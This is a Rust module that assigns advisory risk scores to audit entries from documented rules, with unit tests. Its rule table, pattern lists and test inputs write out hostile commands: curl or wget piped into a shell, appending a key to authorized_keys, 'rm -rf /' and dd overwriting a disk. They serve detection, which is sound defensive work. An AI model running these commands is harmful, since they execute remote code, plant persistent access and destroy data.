//! Advisory risk scores for audit entries, from documented rules.
//!
//! The score (0-100) helps a human find what to look at; enforcement is the kernel's.
//! Each matching rule adds its weight; the sum is capped at 100.
//!
//! | rule | weight | matches |
//! |---|---|---|
//! | `privilege-escalation` | 50 | a `sudo`, `su`, `doas`, `pkexec`, `setcap` word; `chmod` with `+s`, `u+s`, `g+s` or a 4-digit mode starting 2-7; `chown root` |
//! | `pipe-to-shell` | 50 | `curl` or `wget` output piped into `sh`, `bash`, `zsh`, `dash`, `python`, `perl` (also via `sudo`) |
//! | `sensitive-path` | 40 | `~/.ssh`, `/.ssh/`, `/etc/`, `/root`, `/boot`, `/proc/sys`, `/sys/`, `.bashrc`, `.profile`, `authorized_keys`, `/var/run/docker.sock` |
//! | `denied` | 40 | the request was refused (result `denied`) |
//! | `sandbox-violation` | 60 | the action is `sandbox_violation` or the detail mentions a seccomp or Landlock denial |
//! | `limit-hit` | 20 | the action is `limit_hit` |
//! | `destructive` | 30 | `rm -rf /`, `rm -rf ~`, `mkfs`, `dd of=/dev/` |
//! | `bound-restore` | 40 | a principal bound to a sandbox policy imports or restores a session (the way out of its sandbox, were the policy not applied) |
//! | `bound-workspace` | 20 | a principal bound to a sandbox policy starts a session in a directory it names (`session.new` with `cwd=`): a change of workspace |
//! | `audit-break` | 60 | the audit log was repaired, deleted under the daemon, or cut over from an older format (`audit.repair`, `audit.gap`, `audit.segment`) |
//! | `unauthenticated` | 20 | an HTTP request without valid credentials (`http.unauthorized`; with `denied`, 60) |
//! | `anomaly` | per rule, [`ANOMALIES`] | the daemon detected an anomaly (`alert.<rule>`): denial burst 60, error-rate spike 40, retry loop, output flood and token spike 30, slow exec and input wait 20 |

use serde::{Deserialize, Serialize};

/// A score and the rules that produced it.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Risk {
    /// 0 (routine) to 100 (look now).
    pub score: u8,
    /// Names of the matching rules.
    pub rules: Vec<String>,
}

const ESCALATION_WORDS: [&str; 5] = ["sudo", "su", "doas", "pkexec", "setcap"];
const SHELLS: [&str; 6] = ["sh", "bash", "zsh", "dash", "python", "perl"];
const SENSITIVE: [&str; 11] = [
    "~/.ssh",
    "/.ssh/",
    "/etc/",
    "/root",
    "/boot",
    "/proc/sys",
    "/sys/",
    ".bashrc",
    ".profile",
    "authorized_keys",
    "/var/run/docker.sock",
];

/// The weight of each anomaly rule (action `alert.<rule>`, recorded by the daemon's anomaly
/// detection).
pub const ANOMALIES: [(&str, u8); 7] = [
    ("denial_burst", 60),
    ("error_rate", 40),
    ("retry_loop", 30),
    ("output_flood", 30),
    ("token_spike", 30),
    ("slow_exec", 20),
    ("input_wait", 20),
];

/// What the score knows of the actor besides the action.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Context {
    /// The actor is bound to a sandbox policy: leaving it would be the point of an attack.
    pub policy_bound: bool,
}

/// Scores one action. `result` is `ok`, `denied`, `error`, ...
pub fn score(action: &str, detail: &str, result: &str) -> Risk {
    score_with(action, detail, result, Context::default())
}

/// Scores one action by an actor described by `ctx`.
pub fn score_with(action: &str, detail: &str, result: &str, ctx: Context) -> Risk {
    let mut risk = Risk::default();
    let mut add = |rule: &str, weight: u8| {
        risk.score = risk.score.saturating_add(weight).min(100);
        risk.rules.push(rule.to_string());
    };
    let words = words(detail);
    if escalation(&words) {
        add("privilege-escalation", 50);
    }
    if pipe_to_shell(detail) {
        add("pipe-to-shell", 50);
    }
    if SENSITIVE.iter().any(|s| detail.contains(s)) {
        add("sensitive-path", 40);
    }
    if result == "denied" {
        add("denied", 40);
    }
    let lower = detail.to_ascii_lowercase();
    if action == "sandbox_violation" || lower.contains("seccomp") || lower.contains("landlock") {
        add("sandbox-violation", 60);
    }
    if action == "limit_hit" {
        add("limit-hit", 20);
    }
    if destructive(&words, detail) {
        add("destructive", 30);
    }
    if ctx.policy_bound && matches!(action, "session.import" | "snapshot.restore") {
        add("bound-restore", 40);
    }
    if ctx.policy_bound
        && action == "session.new"
        && detail.split_whitespace().any(|w| w.starts_with("cwd="))
    {
        add("bound-workspace", 20);
    }
    if crate::audit::BREAK_ACTIONS.contains(&action) {
        add("audit-break", 60);
    }
    if action == "http.unauthorized" {
        add("unauthenticated", 20);
    }
    if let Some((_, weight)) = action
        .strip_prefix("alert.")
        .and_then(|rule| ANOMALIES.iter().find(|(r, _)| *r == rule))
    {
        add("anomaly", *weight);
    }
    risk
}

/// Splits a command line into words, treating shell operators as separators and
/// stripping directories (`/usr/bin/sudo` counts as `sudo`).
fn words(detail: &str) -> Vec<&str> {
    detail
        .split(|c: char| c.is_whitespace() || ";|&()`$<>'\"".contains(c))
        .filter(|w| !w.is_empty())
        .map(|w| w.rsplit('/').next().unwrap_or(w))
        .collect()
}

fn escalation(words: &[&str]) -> bool {
    if words.iter().any(|w| ESCALATION_WORDS.contains(w)) {
        return true;
    }
    for pair in words.windows(2) {
        let (cmd, arg) = (pair[0], pair[1]);
        if cmd == "chmod" && (arg.contains("+s") || setid_mode(arg)) {
            return true;
        }
        if cmd == "chown" && arg.starts_with("root") {
            return true;
        }
    }
    false
}

/// A four-digit octal mode with setuid/setgid bits (e.g. 4755, 2755).
fn setid_mode(arg: &str) -> bool {
    arg.len() == 4
        && arg.chars().all(|c| c.is_ascii_digit())
        && matches!(arg.as_bytes()[0], b'2'..=b'7')
}

fn pipe_to_shell(detail: &str) -> bool {
    let stages: Vec<&str> = detail.split('|').collect();
    stages.windows(2).any(|pair| {
        let fetch = words(pair[0]).iter().any(|w| *w == "curl" || *w == "wget");
        let next = words(pair[1]);
        let runner = next.iter().find(|w| **w != "sudo" && !w.starts_with('-'));
        fetch && runner.is_some_and(|r| SHELLS.iter().any(|s| r.starts_with(s)))
    })
}

fn destructive(words: &[&str], detail: &str) -> bool {
    let rm_root = words.windows(3).any(|w| {
        w[0] == "rm"
            && w[1].starts_with('-')
            && w[1].contains('r')
            && (w[2].is_empty() || w[2] == "~")
    }) || detail.contains("rm -rf / ")
        || detail.trim_end().ends_with("rm -rf /");
    rm_root || words.iter().any(|w| w.starts_with("mkfs")) || detail.contains("of=/dev/")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn has(action: &str, detail: &str, result: &str, rule: &str) -> bool {
        score(action, detail, result)
            .rules
            .iter()
            .any(|r| r == rule)
    }

    #[test]
    fn escalation_rules() {
        assert!(has("exec", "sudo rm x", "ok", "privilege-escalation"));
        assert!(has(
            "exec",
            "echo hi; /usr/bin/su -",
            "ok",
            "privilege-escalation"
        ));
        assert!(has(
            "exec",
            "chmod u+s ./a.out",
            "ok",
            "privilege-escalation"
        ));
        assert!(has(
            "exec",
            "chmod 4755 ./a.out",
            "ok",
            "privilege-escalation"
        ));
        assert!(!has(
            "exec",
            "chmod 755 ./a.out",
            "ok",
            "privilege-escalation"
        ));
        assert!(!has("exec", "echo sugar sue", "ok", "privilege-escalation"));
    }

    #[test]
    fn pipe_to_shell_rules() {
        assert!(has(
            "exec",
            "curl -fsSL https://x.sh | sh",
            "ok",
            "pipe-to-shell"
        ));
        assert!(has(
            "exec",
            "wget -qO- x|sudo bash -s",
            "ok",
            "pipe-to-shell"
        ));
        assert!(has("exec", "curl x | python3 -", "ok", "pipe-to-shell"));
        assert!(!has("exec", "curl x | jq .", "ok", "pipe-to-shell"));
        assert!(!has("exec", "cat x | sh", "ok", "pipe-to-shell"));
    }

    #[test]
    fn paths_denials_and_violations() {
        assert!(has(
            "exec",
            "echo k >> ~/.ssh/authorized_keys",
            "ok",
            "sensitive-path"
        ));
        assert!(has("write", "/etc/passwd", "ok", "sensitive-path"));
        assert!(has("exec", "ls", "denied", "denied"));
        assert!(has(
            "sandbox_violation",
            "ptrace EPERM",
            "denied",
            "sandbox-violation"
        ));
        assert_eq!(score("exec", "ls -la", "ok").score, 0);
        assert_eq!(
            score("sandbox_violation", "sudo curl x|sh ~/.ssh", "denied").score,
            100
        );
    }

    #[test]
    fn bound_principals_restoring_and_audit_breaks_score_high() {
        let bound = Context { policy_bound: true };
        assert!(score_with("session.import", "", "ok", bound).score >= 40);
        assert!(score_with("snapshot.restore", "", "ok", bound).score >= 40);
        assert_eq!(score("session.import", "", "ok").score, 0);
        let moved = score_with("session.new", "w cwd=/srv/other", "ok", bound);
        assert_eq!(moved.rules, ["bound-workspace"]);
        assert!(score_with("session.new", "cwd=/srv/other", "ok", bound).score >= 20);
        assert_eq!(score_with("session.new", "w", "ok", bound).score, 0);
        assert_eq!(score("session.new", "w cwd=/srv/other", "ok").score, 0);
        assert!(score("audit.gap", "", "recovered").score >= 60);
        assert!(score("http.unauthorized", "GET /v1/sessions", "denied").score >= 60);
    }

    #[test]
    fn destructive_rules() {
        assert!(has("exec", "rm -rf /", "ok", "destructive"));
        assert!(has("exec", "rm -rf ~", "ok", "destructive"));
        assert!(has(
            "exec",
            "dd if=/dev/zero of=/dev/sda",
            "ok",
            "destructive"
        ));
        assert!(!has("exec", "rm -rf ./build", "ok", "destructive"));
    }
}
